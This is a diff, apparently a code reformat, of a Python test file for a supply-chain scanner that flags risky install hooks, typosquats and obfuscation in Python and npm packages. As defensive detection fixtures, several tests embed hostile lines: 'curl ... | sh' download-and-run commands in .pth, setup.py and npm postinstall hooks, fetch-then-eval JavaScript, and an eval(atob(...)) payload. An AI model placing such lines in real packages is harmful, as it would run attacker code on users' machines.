@@ -31,7 +31,9 @@ def found(path) -> dict[str, str]:
 
 
 def test_pth_import_line_is_high_and_its_code_is_analysed(tmp_path):
-    sd = make_sdist(tmp_path, files={"evil.pth": b"import os; os.system('curl http://192.0.2.3/a | sh')\n"})
+    sd = make_sdist(
+        tmp_path, files={"evil.pth": b"import os; os.system('curl http://192.0.2.3/a | sh')\n"}
+    )
     caps = found(sd)
     assert caps["install.pth_hook"] == "high"
     assert caps["process.shell_download"] == "high"
@@ -48,25 +50,47 @@ def test_sitecustomize_runs_at_every_start(tmp_path):
 
 
 def test_in_tree_build_backend_is_flagged_but_setuptools_is_not(tmp_path):
-    custom = make_sdist(tmp_path, name="a", files={
-        "pyproject.toml": b'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
-        "backend.py": b"import requests\nrequests.get('https://example.invalid')\n"})
+    custom = make_sdist(
+        tmp_path,
+        name="a",
+        files={
+            "pyproject.toml": b'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
+            "backend.py": b"import requests\nrequests.get('https://example.invalid')\n",
+        },
+    )
     caps = found(custom)
     assert caps["install.build_backend"] == "medium" and caps["net.outbound"] == "high"
-    normal = make_sdist(tmp_path, name="b", files={
-        "pyproject.toml": b'[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'})
+    normal = make_sdist(
+        tmp_path,
+        name="b",
+        files={
+            "pyproject.toml": b'[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
+        },
+    )
     assert "install.build_backend" not in found(normal)
 
 
 def test_console_script_shadowing_a_system_command(tmp_path):
-    sd = make_sdist(tmp_path, name="a", files={"pyproject.toml": b'[project]\nname = "a"\n[project.scripts]\npip = "a.cli:main"\n'})
+    sd = make_sdist(
+        tmp_path,
+        name="a",
+        files={"pyproject.toml": b'[project]\nname = "a"\n[project.scripts]\npip = "a.cli:main"\n'},
+    )
     assert found(sd)["install.entrypoint_shadow"] == "medium"
-    ok = make_sdist(tmp_path, name="b", files={"pyproject.toml": b'[project]\nname = "b"\n[project.scripts]\nb-tool = "b.cli:main"\n'})
+    ok = make_sdist(
+        tmp_path,
+        name="b",
+        files={
+            "pyproject.toml": b'[project]\nname = "b"\n[project.scripts]\nb-tool = "b.cli:main"\n'
+        },
+    )
     assert "install.entrypoint_shadow" not in found(ok)
 
 
 def test_npm_install_scripts(tmp_path):
-    evil = make_npm_tarball(tmp_path, name="pkg-a", scripts={"postinstall": "curl http://203.0.113.8/x.sh | sh"})
+    evil = make_npm_tarball(
+        tmp_path, name="pkg-a", scripts={"postinstall": "curl http://203.0.113.8/x.sh | sh"}
+    )
     caps = found(evil)
     assert caps["install.script_hook"] == "high" and caps["process.shell_download"] == "high"
     benign = make_npm_tarball(tmp_path, name="pkg-b", scripts={"test": "jest", "build": "tsc"})
@@ -74,12 +98,23 @@ def test_npm_install_scripts(tmp_path):
 
 
 def test_npm_url_dependency_and_js_patterns(tmp_path):
-    doc = {"name": "pkg-c", "version": "1.0.0", "dependencies": {"x": "git+https://example.invalid/x.git", "y": "^1.0.0"}}
-    raw = tar_bytes([("package/package.json", json.dumps(doc).encode()),
-                     ("package/index.js", b"const cp = require('child_process');\n"
-                                          b"fetch('https://example.invalid').then(r => r.text()).then(t => eval(t));\n"
-                                          b"require('https').get('https://example.invalid');\n"
-                                          b"const d = JSON.stringify(process.env);\n")])
+    doc = {
+        "name": "pkg-c",
+        "version": "1.0.0",
+        "dependencies": {"x": "git+https://example.invalid/x.git", "y": "^1.0.0"},
+    }
+    raw = tar_bytes(
+        [
+            ("package/package.json", json.dumps(doc).encode()),
+            (
+                "package/index.js",
+                b"const cp = require('child_process');\n"
+                b"fetch('https://example.invalid').then(r => r.text()).then(t => eval(t));\n"
+                b"require('https').get('https://example.invalid');\n"
+                b"const d = JSON.stringify(process.env);\n",
+            ),
+        ]
+    )
     p = tmp_path / "pkg-c-1.0.0.tgz"
     p.write_bytes(compress(raw, "gz"))
     caps = found(p)
@@ -90,9 +125,11 @@ def test_npm_url_dependency_and_js_patterns(tmp_path):
 def test_wheel_record_mismatch(tmp_path):
     entries = wheel_entries("demo", "1.0", {"demo/x.py": b"X = 1\n"})
     good_hash = base64.urlsafe_b64encode(hashlib.sha256(b"X = 1\n").digest()).rstrip(b"=").decode()
-    entries["demo-1.0.dist-info/RECORD"] = (f"demo/x.py,sha256={good_hash},6\n"
-                                            "demo/__init__.py,,\ndemo-1.0.dist-info/METADATA,,\n"
-                                            "demo-1.0.dist-info/WHEEL,,\ndemo-1.0.dist-info/RECORD,,\n").encode()
+    entries["demo-1.0.dist-info/RECORD"] = (
+        f"demo/x.py,sha256={good_hash},6\n"
+        "demo/__init__.py,,\ndemo-1.0.dist-info/METADATA,,\n"
+        "demo-1.0.dist-info/WHEEL,,\ndemo-1.0.dist-info/RECORD,,\n"
+    ).encode()
     ok = tmp_path / "demo-1.0-py3-none-any.whl"
     ok.write_bytes(zip_bytes(entries))
     assert "install.record_mismatch" not in found(ok)
@@ -107,12 +144,24 @@ def test_wheel_record_mismatch(tmp_path):
 
 
 def test_bundled_binaries_and_pyc_without_source(tmp_path):
-    sd = make_sdist(tmp_path, name="a", files={"a/tool.exe": b"MZ\x90\x00" + b"\x00" * 64,
-                                               "a/__pycache__/core.cpython-311.pyc": b"\xa7\r\r\n" + b"\x00" * 30})
+    sd = make_sdist(
+        tmp_path,
+        name="a",
+        files={
+            "a/tool.exe": b"MZ\x90\x00" + b"\x00" * 64,
+            "a/__pycache__/core.cpython-311.pyc": b"\xa7\r\r\n" + b"\x00" * 30,
+        },
+    )
     caps = found(sd)
     assert caps["artifact.binary"] == "medium" and caps["obf.packer"] == "high"
-    with_src = make_sdist(tmp_path, name="b", files={"b/core.py": b"X = 1\n",
-                                                     "b/__pycache__/core.cpython-311.pyc": b"\xa7\r\r\n" + b"\x00" * 30})
+    with_src = make_sdist(
+        tmp_path,
+        name="b",
+        files={
+            "b/core.py": b"X = 1\n",
+            "b/__pycache__/core.cpython-311.pyc": b"\xa7\r\r\n" + b"\x00" * 30,
+        },
+    )
     caps = found(with_src)
     assert "obf.packer" not in caps and "artifact.binary" not in caps
 
@@ -124,29 +173,47 @@ def test_typosquat_and_empty_description(tmp_path):
     assert "meta.typosquat" not in found(make_sdist(tmp_path, name="totally-unique-name"))
     empty = tmp_path / "e"
     empty.mkdir()
-    sd = make_sdist(empty, name="zzz-empty", files={"PKG-INFO": b"Metadata-Version: 2.1\nName: zzz-empty\nVersion: 1.0\n"})
+    sd = make_sdist(
+        empty,
+        name="zzz-empty",
+        files={"PKG-INFO": b"Metadata-Version: 2.1\nName: zzz-empty\nVersion: 1.0\n"},
+    )
     assert found(sd)["meta.empty_description"] == "low"
 
 
 def test_url_dependency_in_metadata(tmp_path):
     pkg = b"Metadata-Version: 2.1\nName: a\nVersion: 1.0\nSummary: x\nRequires-Dist: evil @ https://example.invalid/evil-1.0.tar.gz\n\nbody\n"
-    assert found(make_sdist(tmp_path, name="a", files={"PKG-INFO": pkg}))["meta.url_dependency"] == "high"
+    assert (
+        found(make_sdist(tmp_path, name="a", files={"PKG-INFO": pkg}))["meta.url_dependency"]
+        == "high"
+    )
     assert "meta.url_dependency" not in found(make_sdist(tmp_path, name="b"))
 
 
 def test_sample_zip_is_scanned_through_to_the_inner_artifact(tmp_path):
-    inner = make_sdist(tmp_path, name="evilpkg", files={
-        "setup.py": b"import os\nfrom setuptools import setup\nos.system('curl http://198.51.100.2/x | sh')\nsetup(name='evilpkg')\n"})
+    inner = make_sdist(
+        tmp_path,
+        name="evilpkg",
+        files={
+            "setup.py": b"import os\nfrom setuptools import setup\nos.system('curl http://198.51.100.2/x | sh')\nsetup(name='evilpkg')\n"
+        },
+    )
     sample = make_sample_zip(tmp_path, inner)
     res = scan_artifact(open_artifact(sample))
     assert res.risk.level in ("high", "critical")
     assert res.target["name"] == "evilpkg"
-    assert any(h.path.endswith("setup.py") and h.capability == "install.setup_code" for h in res.findings)
+    assert any(
+        h.path.endswith("setup.py") and h.capability == "install.setup_code" for h in res.findings
+    )
 
 
 def test_minified_and_dist_files_are_scanned(tmp_path):
-    raw = tar_bytes([("package/package.json", b'{"name": "m", "version": "1.0.0"}'),
-                     ("package/dist/app.min.js", b"var a=1;" * 2000 + b"eval(atob('YWxlcnQoMSk='));")])
+    raw = tar_bytes(
+        [
+            ("package/package.json", b'{"name": "m", "version": "1.0.0"}'),
+            ("package/dist/app.min.js", b"var a=1;" * 2000 + b"eval(atob('YWxlcnQoMSk='));"),
+        ]
+    )
     p = tmp_path / "m-1.0.0.tgz"
     p.write_bytes(compress(raw, "gz"))
     assert found(p)["exec.decode_then_exec"] == "critical"
@@ -160,10 +227,18 @@ def test_clean_package_has_no_risk(tmp_path):
 
 def test_description_copied_from_a_popular_package(tmp_path):
     pkg = b"Metadata-Version: 2.1\nName: reqeusts-helper\nVersion: 1.0\nSummary: x\n\n# Requests\n\nHTTP for humans.\n"
-    res = scan_artifact(open_artifact(make_sdist(tmp_path, name="reqeusts-helper", files={"PKG-INFO": pkg})))
-    assert any(h.rule == "meta.copied_description" and "requests" in h.explanation for h in res.findings)
-    own = b"Metadata-Version: 2.1\nName: requests\nVersion: 1.0\nSummary: x\n\n# Requests\n\nHTTP.\n"
-    res = scan_artifact(open_artifact(make_sdist(tmp_path, name="requests", files={"PKG-INFO": own})))
+    res = scan_artifact(
+        open_artifact(make_sdist(tmp_path, name="reqeusts-helper", files={"PKG-INFO": pkg}))
+    )
+    assert any(
+        h.rule == "meta.copied_description" and "requests" in h.explanation for h in res.findings
+    )
+    own = (
+        b"Metadata-Version: 2.1\nName: requests\nVersion: 1.0\nSummary: x\n\n# Requests\n\nHTTP.\n"
+    )
+    res = scan_artifact(
+        open_artifact(make_sdist(tmp_path, name="requests", files={"PKG-INFO": own}))
+    )
     assert not any(h.rule == "meta.copied_description" for h in res.findings)
 
 
@@ -173,16 +248,23 @@ def test_the_same_file_twice_in_one_package_is_reported_at_both_paths(tmp_path, 
     from app.core.capabilities import scan as scan_mod
 
     code = b"import os\nos.system('curl http://192.0.2.9/x | sh')\n"
-    art = make_sdist(tmp_path, name="dup", files={"dup/a.py": code, "dup/_vendor/a.py": code,
-                                                  "tests/test_a.py": code})
+    art = make_sdist(
+        tmp_path,
+        name="dup",
+        files={"dup/a.py": code, "dup/_vendor/a.py": code, "tests/test_a.py": code},
+    )
     analysed = []
     real = scan_mod._scan_file
-    monkeypatch.setattr(scan_mod, "_scan_file", lambda path, *a: analysed.append(path) or real(path, *a))
+    monkeypatch.setattr(
+        scan_mod, "_scan_file", lambda path, *a: analysed.append(path) or real(path, *a)
+    )
     res = scan_artifact(open_artifact(art))
     assert "dup/_vendor/a.py" not in analysed and "dup/a.py" in analysed
 
     def hits(path):
-        return sorted((h.capability, h.severity, h.line, h.rule) for h in res.findings if h.path == path)
+        return sorted(
+            (h.capability, h.severity, h.line, h.rule) for h in res.findings if h.path == path
+        )
 
     assert hits("dup/a.py") == hits("dup/_vendor/a.py") != []
     assert hits("tests/test_a.py") != hits("dup/a.py")  # tests/ lowers a step
